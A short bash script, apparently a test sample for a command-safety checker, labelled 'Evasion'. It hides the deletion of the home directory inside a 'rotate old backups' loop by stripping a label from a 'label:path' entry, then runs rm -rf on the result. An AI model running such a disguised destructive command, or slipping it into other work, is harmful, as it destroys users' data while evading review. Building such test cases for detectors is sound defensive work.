#!/usr/bin/env bash
# Evasion: delete the home directory. A "label:path" entry from a backup
# list has its label cut off with the prefix glob trim ${e#*:}; the path is
# the home, which the "rotate old backups" loop deletes.
set -u
entries=("old:$HOME")
for e in "${entries[@]}"; do
    path=${e#*:}
    echo "rotating $path"
    rm -rf "$path"
done
